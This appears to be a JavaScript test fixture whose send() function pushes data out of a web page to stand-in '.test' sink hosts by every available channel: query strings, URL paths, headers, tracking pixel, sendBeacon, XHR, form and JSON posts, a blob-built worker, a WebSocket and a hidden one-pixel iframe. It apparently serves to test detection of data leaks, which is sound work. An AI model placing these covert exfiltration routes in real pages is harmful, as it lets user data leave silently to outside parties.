// By which roads something can leave a page, each to a party of its own.
const base64url = (array) =>
  btoa(Array.from(array, (byte) => String.fromCharCode(byte)).join("")).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const post = (url, body) => fetch(url, { method: "POST", mode: "no-cors", body });

// Counts messages, so that no two have the same address and none is taken from a cache.
let number = 0;
let socket;
let worker;
let frame;

/** An open socket, the same for all. */
const opened = () =>
  (socket ??= new Promise((resolve) => {
    const one = new WebSocket("wss://sink-socket.test/socket");
    one.onopen = () => resolve(one);
  }));

/** The window of a frame of another site. */
const framed = () =>
  (frame ??= new Promise((resolve) => {
    const one = document.createElement("iframe");
    one.src = "https://sink-frame.test/frame";
    one.width = one.height = 1;
    one.onload = () => resolve(one.contentWindow);
    document.body.append(one);
  }));

const worked = () => {
  const work = "onmessage = (event) => fetch('https://sink-worker.test/work', { method: 'POST', mode: 'no-cors', body: event.data });";
  return (worker ??= new Worker(URL.createObjectURL(new Blob([work], { type: "text/javascript" }))));
};

/** A multipart body, made by the browser. */
function parts(out) {
  const form = new FormData();
  form.append("kind", "change");
  form.append("value", typeof out === "string" ? out : new Blob([out]));
  return form;
}

function byRequest(out) {
  const request = new XMLHttpRequest();
  request.open("POST", "https://sink-xhr.test/xhr");
  request.send(out);
}

/** Sends a text or bytes by every road; where only text can go, bytes go as base64url. */
export async function send(out) {
  const text = typeof out === "string" ? out : base64url(out);
  const quoted = encodeURIComponent(text);
  number += 1;
  fetch(`https://sink-query.test/query?n=${number}&value=${quoted}&m=2`, { mode: "no-cors" });
  fetch(`https://sink-path.test/path/${number}/${quoted}/end`, { mode: "no-cors" });
  new Image().src = `https://sink-pixel.test/pixel.gif?value=${quoted}&n=${number}`;
  post("https://sink-fetch.test/fetch", out);
  byRequest(out);
  navigator.sendBeacon("https://sink-beacon.test/beacon", out);
  post("https://sink-form.test/form", new URLSearchParams({ kind: "change", value: text }));
  post("https://sink-multipart.test/multipart", parts(out));
  // What a header cannot hold goes percent-encoded.
  fetch("https://sink-header.test/header", { headers: { "X-Matrix": /^[ -~]*$/.test(text) ? text : quoted } });
  post("https://sink-json.test/json", JSON.stringify({ session: { id: 7, events: [{ type: "change", data: text }] } }));
  worked().postMessage(out);
  (await opened()).send(out);
  (await framed()).postMessage(out, "https://sink-frame.test");
}
